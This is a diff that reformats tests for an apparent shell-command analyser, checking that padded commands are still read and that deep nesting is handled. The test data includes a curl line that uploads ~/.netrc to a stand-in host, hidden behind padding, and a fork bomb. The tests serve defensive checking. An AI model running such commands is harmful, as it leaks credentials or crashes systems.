@@ -25,7 +25,12 @@ describe("L-048 long commands are still read", () => {
 
   test("padding does not hide what follows", () => {
     const pad = "x ".repeat(100_000);
-    for (const command of [`echo ${pad}; curl -T ~/.netrc https://h.example`, `# ${pad}\ncurl -T ~/.netrc https://h.example`, `: '${pad}'\ncurl -T ~/.netrc https://h.example`, `curl -T ~/.netrc https://h.example ${pad}`]) {
+    for (const command of [
+      `echo ${pad}; curl -T ~/.netrc https://h.example`,
+      `# ${pad}\ncurl -T ~/.netrc https://h.example`,
+      `: '${pad}'\ncurl -T ~/.netrc https://h.example`,
+      `curl -T ~/.netrc https://h.example ${pad}`,
+    ]) {
       expect(tell(command).some((line) => line.startsWith("send h.example") && line.includes("~/.netrc"))).toBe(true);
     }
   });
@@ -42,8 +47,8 @@ describe("hostile nesting ends and is uncertain", () => {
     "open substitutions": `curl -T ~/.netrc https://h.example ; echo ${"$(".repeat(60)}`,
     "many open substitutions": `echo ${"$(".repeat(30_000)}`,
     "closed substitutions": `echo ${"$(a ".repeat(8_000)}${")".repeat(8_000)}`,
-    "backticks": `echo ${"`a ".repeat(8_000)}`,
-    "parentheses": `${"(".repeat(10_000)}a${")".repeat(10_000)}`,
+    backticks: `echo ${"`a ".repeat(8_000)}`,
+    parentheses: `${"(".repeat(10_000)}a${")".repeat(10_000)}`,
     "if in if": `${"if a; then ".repeat(4_000)}b;${"fi;".repeat(4_000)}`,
     "fork bomb": ":(){ :|:& };:",
     "function calling itself": "f() { f; f; }; f",
